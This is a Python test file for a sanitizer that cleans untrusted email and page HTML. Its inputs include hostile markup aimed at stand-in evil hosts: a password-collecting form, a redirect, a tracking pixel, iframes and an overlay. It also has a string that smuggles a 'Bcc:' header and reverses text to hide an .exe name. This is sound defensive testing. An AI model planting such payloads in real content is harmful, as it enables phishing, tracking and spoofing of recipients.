"""Strangers' words on our pages: nothing runs, loads, covers or reverses (A13, A17)."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from eyelevel.kernel.html import linked, safe_mail_html
from eyelevel.kernel.text import clean, folded, one_line, sentences, visible
from tests.kernel.evil import SCRIPTS

ALLOWED = re.compile(
    r"</?(?:a|b|blockquote|br|code|dd|del|div|dl|dt|em|h[1-6]|hr|i|ins|li|ol|p|pre|q|s|small|span|strong|sub|sup|table|tbody|td|tfoot|th|thead|tr|u|ul)(?: (?:href|title|rel|colspan|rowspan)=\"[^\"]*\")*>"
)


def _harmless(html):
    rest = ALLOWED.sub("", html)
    assert "<" not in rest, rest
    for href in re.findall(r'href="([^"]*)"', html):
        assert href.startswith(("http://", "https://", "mailto:")), href


@pytest.mark.parametrize("evil", SCRIPTS)
def test_no_script_survives_in_a_mail(evil):
    _harmless(safe_mail_html(evil, 100_000))


@pytest.mark.parametrize("evil", SCRIPTS)
def test_no_script_survives_in_plain_text(evil):
    _harmless(linked(evil))


@given(st.text(max_size=500))
def test_any_text_is_harmless(text):
    _harmless(linked(text))
    _harmless(safe_mail_html(text, 100_000))


@pytest.mark.parametrize(
    "html",
    [
        '<form action="https://evil.example"><input name=password></form>', '<meta http-equiv=refresh content="0;url=//evil">',
        '<base href="https://evil.example">', '<div style="position:fixed;inset:0">x</div>', "<style>@import 'https://evil'</style>",
        '<img src="https://evil.example/pixel.gif" width=1 height=1>', '<link rel=stylesheet href="//evil">',
        "<iframe src=//evil></iframe>", "<object data=x></object>", "<video autoplay src=//evil></video>",
    ],
)  # fmt: skip
def test_a13_nothing_loads_or_covers(html):
    shown = safe_mail_html(html, 10_000)
    _harmless(shown)
    assert "evil" not in shown


def test_a13_tags_left_open_are_closed_inside_their_own_part():
    shown = safe_mail_html("<div><b>open <table><tr><td>", 10_000)
    assert shown.count("<div>") == shown.count("</div>")
    assert shown.count("<table>") == shown.count("</table>")


def test_a_picture_leaves_its_description():
    assert "[Rechnung]" in safe_mail_html('<img src="https://x/y.png" alt="Rechnung">', 10_000)


def test_addresses_in_plain_text_become_links():
    assert '<a href="https://a.example/b?c=1&amp;d=2" rel="noopener noreferrer nofollow">' in linked(
        "see https://a.example/b?c=1&d=2."
    )


def test_a_name_is_one_line_without_reversed_writing():
    assert one_line("Jana\r\nBcc: x\u202egnp.exe\x00", 100) == "Jana Bcc: xgnp.exe"
    assert one_line("x" * 500, 10) == "x" * 9 + "…"


@given(st.text(max_size=300))
def test_clean_text_has_no_control_signs(text):
    assert not [
        sign for sign in clean(text) if (sign < " " and sign not in "\n\t") or "\ud800" <= sign <= "\udfff"
    ]


def test_what_a_reader_sees_is_compared():
    assert visible("Diens\u200btag") == "Dienstag"
    assert visible("Dіenstag") == "Dienstag"  # a Ukrainian i
    assert visible("Привет") == "Привет"
    assert folded("Grüße") == folded("GRUESSE")


@pytest.mark.parametrize(
    ("text", "count"),
    [
        ("Das ist z. B. so. Und dann so.", 2), ("Am 12. Mai rufen wir an. Bis dann!", 2), ("Dr. Müller kommt um 3.30 Uhr.", 1),
        ("One. Two? Three!", 3), ("", 0), ("- a\n- b", 2),
    ],
)  # fmt: skip
def test_sentences(text, count):
    assert len(sentences(text, 100)) == count
